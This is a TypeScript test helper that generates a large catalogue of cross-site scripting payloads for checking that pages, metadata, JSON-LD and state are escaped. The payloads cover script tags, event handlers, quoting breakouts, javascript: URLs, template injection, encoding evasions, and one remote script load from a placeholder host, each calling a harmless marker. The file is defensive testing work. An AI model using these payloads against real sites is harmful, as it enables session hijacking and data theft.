/**
 * Texts that would be executed if a page, its metadata, its JSON-LD or its state did not escape them. Each calls `ran` with
 * its number. All are single lines of at most 90 characters without control characters, which any field accepts.
 * @param perKind the maximum number of each kind
 */
export const getHostileScripts = (perKind = Number.POSITIVE_INFINITY): string[] =>
  getKinds()
    .flatMap((scripts) => scripts.slice(0, perKind))
    .map((script, index) => script.replaceAll('RUN', `ran(${index})`));

function getKinds(): string[][] {
  return [
    TAGS,
    HANDLERS.map(([tag, event]) => `<${tag} ${event}=RUN>`),
    QUOTING,
    SCRIPT_URLS,
    SCRIPT_URLS.slice(0, 8).map((url) => `<a href="${url}">here</a>`),
    TEMPLATES,
    STYLES,
    ESCAPES,
    JSON_BREAKOUTS,
    // Each of these ends the string or element around it.
    ...CLOSING_TOKENS.map((token) => STRONGEST.map((script) => token + script)),
  ];
}

const STRONGEST = [
  '<script>RUN</script>',
  '<img src=x onerror=RUN>',
  '<svg onload=RUN>',
  '<iframe src=javascript:RUN>',
];

const TAGS = [
  '<script>RUN</script>',
  '<SCRIPT>RUN</SCRIPT>',
  '<script type=module>RUN</script>',
  '<script src="data:text/javascript,RUN"></script>',
  '<script src=//scripts.example/x.js?RUN></script>',
  '<script>RUN//',
  '<script\u00a0>RUN</script\u00a0>',
  '<svg><script>RUN</script></svg>',
  '<svg><script href="data:,RUN" /></svg>',
  '<math><mtext><script>RUN</script></mtext></math>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<<script>RUN//<</script>',
  '<script/x>RUN</script>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<template><script>RUN</script></template>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<object data="javascript:RUN"></object>',
  '<embed src="javascript:RUN">',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<base href="javascript:RUN//">',
  '<link rel=import href="data:text/html,<script>RUN</script>">',
  '<form action=javascript:RUN><button>Send</button></form>',
  '<button formaction=javascript:RUN form=x>Send</button>',
  '<svg><a xlink:href="javascript:RUN"><text>here</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=RUN>#x"/></svg>',
  '<math href="javascript:RUN">here</math>',
  '<portal src="javascript:RUN"></portal>',
];

const HANDLERS = [
  ['img src=x', 'onerror'],
  ['img src=/favicon.svg', 'onload'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a tabindex=0 autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['dialog open', 'onbeforetoggle'],
  ['video src=x', 'onerror'],
  ['video><source', 'onerror'],
  ['audio src=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['script src=x', 'onerror'],
  ['marquee', 'onstart'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['svg><image href=x', 'onerror'],
  ['p style=animation-name:spin', 'onanimationstart'],
  ['p tabindex=0 style=transition:all', 'ontransitionend'],
  ['p contenteditable autofocus', 'onfocus'],
  ['p', 'onpointerover'],
  ['p', 'onmouseover'],
  ['form', 'onsubmit'],
  ['input type=image src=x', 'onerror'],
] as const;

const QUOTING = [
  '<img/src=x/onerror=RUN>',
  '<img src=x onerror="RUN">',
  "<img src=x onerror='RUN'>",
  '<img src=x onerror=`RUN`>',
  '<img src=x onerror =RUN>',
  '<IMG SRC=x OnErRoR=RUN>',
  '<img src=x onerror=RUN//',
  '<img src="x` `<script>RUN</script>"` `>',
  '<img """><script>RUN</script>">',
  '<a title="<img src=x onerror=RUN>">here</a>',
  '" autofocus onfocus=RUN x="',
  "' autofocus onfocus=RUN x='",
  '" onmouseover="RUN',
  '` onerror=RUN `',
  'x onerror=RUN',
  '"/onload=RUN/',
  '\\"><img src=x onerror=RUN>',
  "\\'><img src=x onerror=RUN>",
];

const SCRIPT_URLS = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  'javascript://x.example/%0aRUN',
  'java&#115;cript:RUN',
  'javascript&colon;RUN',
  'java&Tab;script:RUN',
  'data:text/html,<script>RUN</script>',
  'data:text/html;base64,PHNjcmlwdD5yYW4oMCk8L3NjcmlwdD4=',
  'vbscript:RUN',
  'view-source:javascript:RUN',
  'feed:javascript:RUN',
  '//scripts.example/%3Cscript%3ERUN%3C/script%3E',
];

const TEMPLATES = [
  '{{RUN}}',
  "{{constructor.constructor('RUN')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: text that looks like a template.
  '${RUN}',
  '`+RUN+`',
  '#{RUN}',
  '<%= RUN %>',
  '{% RUN %}',
  '[[RUN]]',
  '@(RUN)',
  '{RUN}',
  '<?php RUN ?>',
  '$& $` $1 <script>RUN</script>',
];

const STYLES = [
  '<style>@import "javascript:RUN";</style>',
  '<p style="background:url(javascript:RUN)">',
  '<p style="width:expression(RUN)">',
  '<p style="behavior:url(#default#time2)" onbegin=RUN>',
  'x:expression(RUN)',
  ');background:url("javascript:RUN")',
  '}</style><script>RUN</script>',
  '<link rel=stylesheet href="data:text/css,*{x:expression(RUN)}">',
];

const ESCAPES = [
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  '\\x3cscript\\x3eRUN\\x3c/script\\x3e',
  '\\74script\\76RUN\\74/script\\76',
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&#60;script&#62;RUN&#60;/script&#62;',
  '&#x3c;script&#x3e;RUN&#x3c;/script&#x3e;',
  '&amp;lt;script&amp;gt;RUN',
  '%3Cscript%3ERUN%3C/script%3E',
  '%253Cscript%253ERUN%253C/script%253E',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
  '＜script＞RUN＜/script＞',
  '<ſcript>RUN</ſcript>',
  '<\u200bscript>RUN</\u200bscript>',
  '\ufeff<script>RUN</script>',
  '\u2028RUN\u2029//<script>RUN</script>',
  "';\u2028RUN//",
  '\u202e<script>RUN</script>',
  '<\u0338script>RUN</script>',
  'İ<script>RUN</script>',
  '𝓈<script>RUN</script>𝓈',
];

const JSON_BREAKOUTS = [
  '","description":"</script><script>RUN</script>',
  '"}</script><script>RUN</script>',
  '"}]}</script><img src=x onerror=RUN>',
  '\\"}</script><script>RUN</script>',
  '\\\\"</script><script>RUN</script>',
  "'};RUN;//",
  '"};RUN;//',
  '"-RUN-"',
  "'-RUN-'",
  '\\u0022-RUN-\\u0022',
  '{"__html":"<img src=x onerror=RUN>"}',
  '{"$$typeof":"react.element","type":"script"} RUN',
  '__proto__ RUN',
  '{"@context":"javascript:RUN"}',
];

const CLOSING_TOKENS = [
  '</script>',
  '</SCRIPT >',
  '</title>',
  '</textarea>',
  '</style>',
  '</noscript>',
  '</template>',
  '</xmp>',
  '</option></select>',
  '">',
  "'>",
  '`>',
  '-->',
  '<!-->',
  '<!--<script>',
  ']]>',
];
